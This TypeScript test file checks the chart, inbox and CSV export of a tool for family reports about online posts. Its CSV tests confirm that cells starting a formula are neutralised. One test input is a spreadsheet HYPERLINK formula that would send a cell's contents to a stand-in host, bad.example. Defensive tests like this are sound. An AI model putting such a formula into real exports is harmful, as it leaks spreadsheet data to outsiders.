import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { chartOf, MOST_WEEKS } from '../../../src/report/chart.ts';
import { csvOf } from '../../../src/report/csv.ts';
import { inboxOf, inInboxOrder } from '../../../src/report/inbox.ts';
import type { Reading } from '../../../src/report/open-reports.ts';
import type { Report } from '../../../src/report/report.ts';
import { chartTable, inboxTable } from '../../../src/report/table.ts';
import { deskMessages } from '../../../src/ui/messages/desk.ts';
import { reportWords } from '../../../src/ui/messages/report-words.ts';
import { reportIdFrom } from './families.ts';
import { howReport, sawReport } from './reports.ts';

const csvWords = deskMessages.reports.csv;
const quiet = howReport();
const loud = howReport({
  noticed: '10-19',
  levels: { ...quiet.levels, card: '5-9', pause: '5-9' },
  concerns: { ...quiet.concerns, complaint: '10-19', abuse: '5-9' },
  sites: { ...quiet.sites, social: '10-19' },
  outcomes: { ...quiet.outcomes, edited: '5-9', posted: '5-9' },
});
const reports = [
  { ...loud, week: '2026-W44' },
  { ...quiet, week: '2026-W41' },
  { ...quiet, week: '2026-W44' },
  { ...loud, week: '2026-W44' },
];
const chart = chartOf(reports);

describe('the chart', () => {
  test('has every week from the first report to the last', () => {
    expect(chart.weeks).toEqual(['2026-W41', '2026-W42', '2026-W43', '2026-W44']);
    expect(chart.reports).toEqual([1, 0, 0, 3]);
  });

  test('says how many drafts there were at least, and in how many reports it came up often', () => {
    expect(chart.noticed.at(-1)).toEqual({
      week: '2026-W44',
      often: 2,
      least: 20,
      most: 42,
      open: false,
    });
    const abuse = chart.concerns.find(({ kind }) => kind === 'abuse');
    expect(abuse?.cells.map(({ often, least }) => [often, least])).toEqual([
      [0, 0],
      [0, 0],
      [0, 0],
      [2, 10],
    ]);
  });

  test('has a table behind it that says the same of every kind', () => {
    const { head, rows } = chartTable(chart, reportWords, csvWords);
    expect(head).toEqual([
      'Week',
      'From Monday',
      'Reports',
      'What is counted',
      'Kind',
      'Drafts at least',
      'Drafts at most',
    ]);
    for (const dimension of ['levels', 'concerns', 'sites', 'outcomes'] as const) {
      const of = rows.filter((row) => row[3] === reportWords.headings[dimension]);
      expect(of).toHaveLength(chart.weeks.length * chart[dimension].length);
      for (const [at, row] of of.entries()) {
        const { kind, cells } = chart[dimension][at % chart[dimension].length] ?? {};
        const cell = cells?.find(({ week }) => week === row[0]);
        const label = (reportWords[dimension] as Record<string, string>)[kind ?? ''];
        expect(row.slice(4)).toEqual([label, cell?.least, cell?.open ? '' : cell?.most]);
      }
    }
  });

  test('counts at most what the reports leave open, and says where nobody knows', () => {
    const busy = howReport({ noticed: '20+', sites: { ...quiet.sites, social: '20+' } });
    const { sites, noticed } = chartOf([busy, quiet, quiet]);
    expect(noticed).toEqual([{ week: '2026-W45', often: 1, least: 20, most: 28, open: true }]);
    expect(sites.find(({ kind }) => kind === 'forums')?.cells).toEqual([
      { week: '2026-W45', often: 0, least: 0, most: 12, open: false },
    ]);
  });

  test('of no report is empty, and runs over the turn of the year', () => {
    expect(chartOf([])).toMatchObject({ weeks: [], reports: [], noticed: [] });
    const turn = chartOf([
      { ...quiet, week: '2026-W52' },
      { ...quiet, week: '2027-W01' },
    ]);
    expect(turn.weeks).toEqual(['2026-W52', '2026-W53', '2027-W01']);
  });

  test('is not stretched by a report of an ancient week', () => {
    const { weeks, reports: counts } = chartOf([...reports, { ...quiet, week: '1970-W02' }]);
    expect(weeks).toEqual(chart.weeks);
    expect(counts).toEqual(chart.reports);
    expect(chartOf([{ ...quiet, week: '2021-W01' }, ...reports]).weeks.length).toBeLessThanOrEqual(
      MOST_WEEKS,
    );
  });
});

const read = (name: string, report: Report): Reading => ({ name, ok: true, report, sealed: true });

describe('the inbox', () => {
  const readings: Reading[] = [
    read('a.age', sawReport({ day: '2026-11-02' })),
    read('b.age', quiet),
    { name: 'c.age', ok: false, why: 'damaged' },
    read('d.age', sawReport({ day: '2026-11-10', name: 'Nadia Karim', address: undefined })),
    read('e.age', sawReport({ day: '2026-11-02', id: reportIdFrom(5) })),
  ];

  test('holds what families saw, the latest day first and then by chance', () => {
    const ids = (some: readonly Reading[]) =>
      inInboxOrder(inboxOf(some)).map(({ report }) => [report.day, report.id]);
    expect(ids(readings).map(([day]) => day)).toEqual(['2026-11-10', '2026-11-02', '2026-11-02']);
    expect(ids(readings.toReversed())).toEqual(ids(readings));
  });

  test('is a table with a blank where nothing was given, and without the files’ names', () => {
    const [first, second] = inInboxOrder(inboxOf(readings));
    if (!first || !second) throw new Error('nothing was read');
    const table = inboxTable([first, { ...second, dealt: true }], reportWords, csvWords);
    expect(table).toEqual({
      head: [
        'Day',
        'Kind of place',
        'Address',
        'What it said',
        'What troubles me',
        'From',
        'Sealed',
        'Dealt with',
      ],
      rows: [
        [
          '2026-11-10',
          'A comment',
          '',
          'that lad in 4B again',
          'It is about a child.',
          'Nadia Karim',
          'yes',
          'no',
        ],
        [
          '2026-11-02',
          'A comment',
          'https://www.facebook.com/groups/1/posts/2',
          'that lad in 4B again',
          'It is about a child.',
          '',
          'yes',
          'yes',
        ],
      ],
    });
  });
});

const cellsOf = (csv: string): string[][] =>
  // Our own types know one line end only.
  Papa.parse(csv.slice(1), { delimiter: ',', newline: '\r\n' as '\n', preview: 0 }).data;

describe('CSV', () => {
  test.each([
    '=HYPERLINK("https://bad.example?"&A1,"open")',
    '+44 1632 960000',
    '-2+3',
    '@SUM(A1)',
    ' \n=1+1',
    '\u200B=1+1',
    '\t=1+1',
    '＝1+1',
  ])('a stranger’s words %j are no formula', (cell) => {
    expect(cellsOf(csvOf({ head: ['a'], rows: [[cell]] }))[1]).toEqual([`'${cell}`]);
  });

  test.each(['2 = 2', 'she said "no", then left', 'one\ntwo', '', '‘quoted’'])(
    'other words %j stay as they are',
    (cell) => {
      expect(cellsOf(csvOf({ head: ['a'], rows: [[cell, 'z']] }))[1]).toEqual([cell, 'z']);
    },
  );

  test('a chart’s table is read by a spreadsheet as numbers', () => {
    const lines = csvOf(chartTable(chart, reportWords, csvWords)).split('\r\n');
    expect(lines[0]).toBe(
      '\uFEFF"Week","From Monday","Reports","What is counted","Kind","Drafts at least","Drafts at most"',
    );
    expect(lines).toContain(
      '"2026-W44","2026-10-26",3,"What happened then","Changed, then posted",10,22',
    );
    expect(lines.at(-1)).toBe('');
  });

  test('holds nothing by which one family’s weeks could be told, however the files were given', () => {
    const csv = csvOf(chartTable(chart, reportWords, csvWords));
    for (const { id } of reports) expect(csv).not.toContain(id);
    expect(csvOf(chartTable(chartOf(reports.toReversed()), reportWords, csvWords))).toBe(csv);
  });

  test('whatever is in a table, the same cells come back, and none begins a formula', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.constantFrom('=', '"', ',', '\r\n', '@x', '"=1', '\t=1', "'=1"),
    );
    const rows = fc.array(fc.tuple(cell, cell), { minLength: 1 });
    fc.assert(
      fc.property(rows, (cells) => {
        const back = cellsOf(csvOf({ head: ['one', 'two'], rows: cells })).slice(1, -1);
        const given = cells.flat();
        expect(back.flat()).toHaveLength(given.length);
        for (const [at, one] of back.flat().entries()) {
          expect([given[at], `'${given[at]}`]).toContain(one);
          expect(one).not.toMatch(/^[=+\-@＝＋－＠\t\r]/);
        }
      }),
    );
  });
});
